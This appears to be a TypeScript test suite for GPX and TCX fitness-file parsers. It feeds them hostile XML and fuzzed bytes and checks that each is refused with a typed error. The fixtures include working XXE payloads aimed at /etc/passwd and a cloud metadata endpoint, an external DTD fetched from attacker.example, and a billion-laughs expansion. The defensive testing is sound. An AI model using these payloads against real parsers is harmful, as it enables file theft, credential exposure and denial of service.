import { parseGpx } from '../gpx/parse-gpx';
import { ActivityFileError, type ParsedActivity } from '../parsed-activity';
import { parseTcx } from '../tcx/parse-tcx';
import { MAX_DEPTH } from './scanner';

/**
 * Hostile input: whatever the bytes, the parsers return a result or throw ActivityFileError, quickly
 * and without building anything proportional to an attacker's amplification.
 */

type Parser = (input: Buffer) => ParsedActivity;
const parsers: [string, Parser, string][] = [
  ['parseGpx', (b) => parseGpx(b), 'gpx'],
  ['parseTcx', (b) => parseTcx(b), 'TrainingCenterDatabase'],
];

function outcome(parse: Parser, input: Buffer): { kind: string; reason: string } {
  try {
    const r = parse(input);
    return { kind: 'OK', reason: `${r.points.length} points` };
  } catch (e) {
    if (!(e instanceof ActivityFileError)) throw e;
    return { kind: e.kind, reason: e.reason };
  }
}

const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<gpx><trk><name>&lol9;</name><trkseg><trkpt lat="1" lon="2"/></trkseg></trk></gpx>`;

const xxe = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<gpx creator="&xxe;"><trk><trkseg><trkpt lat="1" lon="2"/></trkseg></trk></gpx>`;

const xxeTcx = `<?xml version="1.0"?>
<!DOCTYPE TrainingCenterDatabase [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>
<TrainingCenterDatabase><Activities><Activity Sport="Running"><Notes>&xxe;</Notes></Activity></Activities></TrainingCenterDatabase>`;

const parameterEntity = `<?xml version="1.0"?>
<!DOCTYPE gpx [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
<gpx/>`;

const quotedTrick = `<?xml version="1.0"?>
<!DOCTYPE gpx [ <!-- ' --> <!ENTITY a "x"> <?pi ' ?> ]><gpx/>`;

describe.each(parsers)('%s on hostile input', (_name, parse, root) => {
  const isGpx = root === 'gpx';
  it.each([
    ['billion laughs', billionLaughs],
    ['XXE SYSTEM file:///etc/passwd', xxe],
    ['XXE in a TCX', xxeTcx],
    ['external parameter entity', parameterEntity],
    ['entity declaration hidden among quotes and comments', quotedTrick],
    ['lower-case <!entity> smuggled in the DOCTYPE', '<!DOCTYPE gpx [<!entity a "x">]><gpx/>'],
    ['<!ENTITY outside any DOCTYPE', '<r><!ENTITY a "b"></r>'],
    ['DOCTYPE cut inside an entity declaration', '<!DOCTYPE gpx [<!ENTITY a "'],
  ])('%s → UNSAFE_XML', (_label, text) => {
    const r = outcome(
      parse,
      Buffer.from(text.replace(/<r>|<\/r>|<gpx\/?>/g, (m) => m.replace(/r|gpx/, root))),
    );
    expect(r.kind).toBe('UNSAFE_XML');
    expect(r.reason).toMatch(/declares XML entities/);
  });

  it('never expands an unknown entity reference (no DTD is ever read)', () => {
    const r = outcome(parse, Buffer.from('<!DOCTYPE gpx SYSTEM "http://x/evil.dtd"><gpx>&evil;</gpx>'));
    expect(r.kind).not.toBe('OK'); // no points: NO_GPS or UNSUPPORTED_TYPE, but never a fetch or expansion
  });

  it('10 MB of nested tags inside a valid root → MALFORMED (depth cap)', () => {
    for (const nested of ['<a>'.repeat(3_500_000), '<x:y a="1">'.repeat(1_000_000)]) {
      const r = outcome(parse, Buffer.from(`<${root}>${nested}`));
      expect(r.kind).toBe('MALFORMED');
      expect(r.reason).toMatch(new RegExp(`nested more than ${MAX_DEPTH} levels`));
    }
  });

  it('10 MB of nested unknown tags → refused at the first tag (UNSUPPORTED_TYPE)', () => {
    const r = outcome(parse, Buffer.from('<a>'.repeat(3_500_000)));
    expect(r.kind).toBe('UNSUPPORTED_TYPE');
  });

  it('10 MB of "<<<<" garbage → MALFORMED', () => {
    const r = outcome(parse, Buffer.from('<'.repeat(10_000_000)));
    expect(r.kind).toBe('MALFORMED');
  });

  it('10 MB of random printable garbage after a root tag → MALFORMED or a clean refusal', () => {
    let seed = 1;
    const bytes = Buffer.alloc(10_000_000);
    for (let i = 0; i < bytes.length; i++) {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      bytes[i] = 32 + (seed % 95);
    }
    const r = outcome(parse, Buffer.concat([Buffer.from('<gpx>'), bytes]));
    expect(['MALFORMED', 'UNSUPPORTED_TYPE', 'NO_GPS']).toContain(r.kind);
  });

  it('an unterminated tag / attribute / comment / CDATA / PI at the end → a clean refusal', () => {
    for (const text of [
      '<R><trk',
      '<R><trk><trkseg><trkpt lat="1" lon="2',
      '<R><!--',
      '<R><![CDATA[',
      '<R><?pi',
      '<R></R'.slice(0, -1),
      '<!DOCTYPE R',
      '<',
      '<?xml',
    ]) {
      const r = outcome(parse, Buffer.from(text.replaceAll('R', root)));
      expect(r.kind).toBe('MALFORMED');
    }
  });

  it('a 5 MB attribute value is read and never copied into the result', () => {
    const big = 'A'.repeat(5_000_000);
    const gpxDoc = `<gpx creator="${big}"><trk><trkseg><trkpt lat="${big}" lon="2"/><trkpt lat="1" lon="2"/></trkseg></trk></gpx>`;
    const tcxDoc =
      `<TrainingCenterDatabase><Activities><Activity Sport="${big}"><Lap StartTime="${big}"><Track>` +
      '<Trackpoint><Position><LatitudeDegrees>1</LatitudeDegrees><LongitudeDegrees>2</LongitudeDegrees></Position></Trackpoint>' +
      '</Track></Lap><Creator><Name>' +
      big +
      '</Name></Creator></Activity></Activities></TrainingCenterDatabase>';
    const r = parse(Buffer.from(isGpx ? gpxDoc : tcxDoc));
    expect(r.points).toHaveLength(1);
    expect(r.sourceDevice).toHaveLength(200);
    if (!isGpx) expect(r.sportLabel).toHaveLength(100);
  });

  it('an unterminated 5 MB attribute value → MALFORMED (truncated, nothing read)', () => {
    const r = outcome(parse, Buffer.from(`<gpx creator="${'B'.repeat(5_000_000)}`));
    expect(r.kind).toBe('MALFORMED');
  });

  it('a 5 MB element name and a 5 MB text are handled', () => {
    const r1 = outcome(parse, Buffer.from(`<${root}><${'n'.repeat(5_000_000)}/></${root}>`));
    const r2 = outcome(parse, Buffer.from(`<${root}><name>${'x'.repeat(5_000_000)}</name></${root}>`));
    for (const r of [r1, r2]) {
      expect(r.kind).toBe('NO_GPS');
    }
  });

  it('millions of attributes on one tag are validated without blowing up', () => {
    const r = outcome(parse, Buffer.from(`<gpx ${'a="1" '.repeat(1_000_000)}/>`));
    expect(['NO_GPS', 'UNSUPPORTED_TYPE']).toContain(r.kind);
  });

  it('random bytes never produce anything but ActivityFileError', () => {
    let seed = 12345;
    const next = (): number => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed;
    };
    const alphabet = Buffer.from('<>/="\'?!-[]&#;: \nabtrkpgxlaon0123456789.');
    for (let i = 0; i < 2000; i++) {
      const len = next() % 200;
      const bytes = Buffer.alloc(len);
      for (let j = 0; j < len; j++)
        bytes[j] = i % 3 === 0 ? next() % 256 : alphabet[next() % alphabet.length];
      const prefix = i % 2 === 0 ? Buffer.from('<gpx><trk><trkseg><trkpt lat="1" lon="2">') : Buffer.alloc(0);
      expect(() => {
        try {
          parse(Buffer.concat([prefix, bytes]));
        } catch (e) {
          if (!(e instanceof ActivityFileError)) throw e;
        }
      }).not.toThrow();
    }
  });

  it('mutations of a valid file never produce anything but ActivityFileError', () => {
    const doc = isGpx
      ? '<?xml version="1.0"?><gpx creator="c"><metadata><name>n</name></metadata><trk><type>9</type><trkseg>' +
        '<trkpt lat="1.5" lon="2.5"><ele>3</ele><time>2020-01-01T00:00:00Z</time><extensions><gpxtpx:hr>99</gpxtpx:hr></extensions></trkpt>' +
        '</trkseg></trk></gpx>'
      : '<?xml version="1.0"?><TrainingCenterDatabase><Activities><Activity Sport="Running"><Id>2020-01-01T00:00:00Z</Id>' +
        '<Lap StartTime="2020-01-01T00:00:00Z"><TotalTimeSeconds>5</TotalTimeSeconds><Track><Trackpoint><Time>2020-01-01T00:00:00Z</Time>' +
        '<Position><LatitudeDegrees>1</LatitudeDegrees><LongitudeDegrees>2</LongitudeDegrees></Position>' +
        '<HeartRateBpm><Value>99</Value></HeartRateBpm></Trackpoint></Track></Lap></Activity></Activities></TrainingCenterDatabase>';
    const bytes = Buffer.from(doc);
    const replacements = [0x3c, 0x3e, 0x2f, 0x22, 0x26, 0x00, 0x20, 0x21, 0x3f, 0xff];
    for (let i = 0; i < bytes.length; i++) {
      for (const b of replacements) {
        const mutated = Buffer.from(bytes);
        mutated[i] = b;
        try {
          parse(mutated);
        } catch (e) {
          expect(e).toBeInstanceOf(ActivityFileError);
        }
      }
      try {
        parse(Buffer.concat([bytes.subarray(0, i), bytes.subarray(i + 1)]));
      } catch (e) {
        expect(e).toBeInstanceOf(ActivityFileError);
      }
    }
  });
});
